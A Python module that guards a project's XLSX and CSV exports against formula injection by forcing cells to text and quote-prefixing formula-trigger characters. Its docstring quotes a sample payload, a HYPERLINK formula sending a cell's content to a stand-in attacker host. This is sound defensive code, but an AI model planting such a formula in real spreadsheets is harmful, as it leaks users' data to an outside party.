"""Write text into spreadsheets so that it stays text: no formula injection.

Every XLSX and CSV writer of the project goes through here (the tracking book, the periodic
report, the catalog export, the history export), because their cells hold what applicants,
officers and imported files typed: an applicant named `=HYPERLINK("http://evil.example/?x="&B2,
"Click")` must come out as those characters, never as a live formula.

- XLSX: every `str` becomes a cell whose data type is forced to "s" (openpyxl otherwise turns a
  string starting with "=" into a formula). Characters XML cannot hold (C0 controls other than
  tab, newline and carriage return) are replaced with U+FFFD, so odd input cannot make an
  export fail either. Numbers, dates and None keep their types.
- CSV: a cell starting with "=", "+", "-", "@", a tab or a carriage return is prefixed with a
  single quote (the OWASP advice), so a spreadsheet shows it as text. Values starting with any
  number of quotes followed by one of those characters get one more quote, so `csv_unescape`
  (applied by `lib.tables` when reading) restores exactly what was written.

Nothing here knows about Django.
"""

import re
from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

# What makes Excel, LibreOffice or Google Sheets read a CSV cell as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_ESCAPED = re.compile(r"'*[=+\-@\t\r]")
_UNESCAPE = re.compile(r"'+[=+\-@\t\r]")


def csv_text(value: Any) -> str:
    """Return `value` as CSV cell text that no spreadsheet will run as a formula."""
    text = "" if value is None else str(value)
    if _ESCAPED.match(text):
        return "'" + text
    return text


def csv_row(values: Iterable[Any]) -> list[str]:
    """Return a row of CSV cell texts, each made safe by `csv_text`."""
    return [csv_text(v) for v in values]


def csv_unescape(text: str) -> str:
    """Undo `csv_text`: drop the quote it put before a formula character."""
    if _UNESCAPE.match(text):
        return text[1:]
    return text


def xlsx_cell(ws: Worksheet | Any, value: Any) -> Cell:
    """Return a cell for `ws.append` (normal or write-only sheet); text is always a string."""
    if isinstance(value, str):
        text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
        cell = WriteOnlyCell(ws, value=text)
        cell.data_type = "s"
        return cell
    return WriteOnlyCell(ws, value=value)


def xlsx_row(ws: Worksheet | Any, values: Iterable[Any]) -> list[Cell]:
    """Return a row of cells for `ws.append`, each made safe by `xlsx_cell`."""
    return [xlsx_cell(ws, v) for v in values]
